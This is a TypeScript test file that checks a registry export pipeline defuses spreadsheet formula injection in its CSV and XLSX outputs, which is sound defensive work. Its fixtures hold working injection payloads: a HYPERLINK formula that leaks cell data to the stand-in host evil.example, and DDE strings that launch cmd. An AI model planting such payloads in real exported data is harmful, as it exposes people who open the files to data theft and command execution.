/**
 * Formula injection: register values that start with = + - @, a tab or a carriage return must
 * reach CSV and XLSX exports as inert text. The XLSX is opened with exceljs, a reader nobody here
 * wrote: every such cell is a string cell (never a formula), with the apostrophe prefix.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import ExcelJS from 'exceljs';
import { csvLine, neutraliseCell } from '../pipeline/format.ts';
import { createKit, type Kit } from './_test-kit.ts';

let k: Kit;
const HOSTILE = {
  name: '=HYPERLINK("http://evil.example/?d="&A1,"点击")',
  district: "+1+cmd|' /C calc'!A0",
  legal_rep: "@SUM(1+1)*cmd|'/C calc'!A0",
};

beforeAll(async () => {
  k = await createKit({ enterprises: 30, days: 1 });
  const u = k.city.schemes[0]!.uscc;
  await k.db.run(
    `UPDATE registrations_history SET name = $n, district = $d, legal_rep = $l WHERE uscc = $u`,
    { n: HOSTILE.name, d: HOSTILE.district, l: HOSTILE.legal_rep, u },
  );
  await k.db.run(`UPDATE registrations_history SET name = $n WHERE uscc = $u`, {
    n: '-2+3',
    u: k.city.schemes[1]!.uscc,
  });
  await k.db.run(`UPDATE registrations_history SET name = $n WHERE uscc = $u`, {
    n: '\t=1+2',
    u: k.city.schemes[2]!.uscc,
  });
});
afterAll(() => k.close());

describe('formula injection', () => {
  it('neutraliseCell prefixes = + - @ tab CR and nothing else', () => {
    for (const s of ['=1', '+1', '-1', '@x', '\t=1', '\r=1'])
      expect(neutraliseCell(s)).toBe(`'${s}`);
    for (const s of ['珠海', '1-2', 'a=b', '']) expect(neutraliseCell(s)).toBe(s);
    expect(csvLine(['=1+1', 3, -4])).toBe("'=1+1,3,-4");
  });

  it('CSV: hostile cells start with an apostrophe', async () => {
    const res = await k.get(`/v1/exports/alerts.csv?date=${k.city.lastDay}`);
    expect(res.status).toBe(200);
    const text = (await res.text()).replace(/^\uFEFF/, '');
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?d=""&A1,""点击"")"`);
    expect(text).toContain(`'+1+cmd|' /C calc'!A0`);
    expect(text).toContain(`'@SUM(1+1)*cmd|'/C calc'!A0`);
    expect(text).toContain(`,'-2+3,`);
    expect(text).toContain(`'\t=1+2`);
    // no cell starts with a formula character
    for (const line of text.split('\n').slice(1)) {
      for (const cell of line.split(',')) expect(cell, line).not.toMatch(/^"?[=+@\t\r]/);
    }
  });

  it('XLSX: hostile cells are string cells with the prefix, numbers stay numbers', async () => {
    const res = await k.get(`/v1/exports/alerts.xlsx?date=${k.city.lastDay}`);
    expect(res.status).toBe(200);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(await res.arrayBuffer());
    const ws = wb.worksheets[0]!;
    const header = (ws.getRow(1).values as unknown[]).slice(1) as string[];
    const col = (name: string) => header.indexOf(name) + 1;
    let hostileRows = 0;
    let formulas = 0;
    ws.eachRow((row, n) => {
      row.eachCell((cell) => {
        if (cell.type === ExcelJS.ValueType.Formula) formulas++;
      });
      if (n === 1) return;
      const name = row.getCell(col('name'));
      expect(name.type).toBe(ExcelJS.ValueType.String);
      expect(name.text).not.toMatch(/^[=+\-@\t\r]/);
      if (name.text.startsWith("'")) hostileRows++;
      expect(row.getCell(col('score')).type).toBe(ExcelJS.ValueType.Number);
    });
    expect(formulas).toBe(0);
    expect(hostileRows).toBe(3);
    const first = ws.getRow(2);
    const rows: string[] = [];
    ws.eachRow((row) => rows.push(row.getCell(col('legal_rep')).text));
    expect(rows).toContain(`'${HOSTILE.legal_rep}`);
    expect(first.getCell(col('rank')).type).toBe(ExcelJS.ValueType.Number);
  });
});
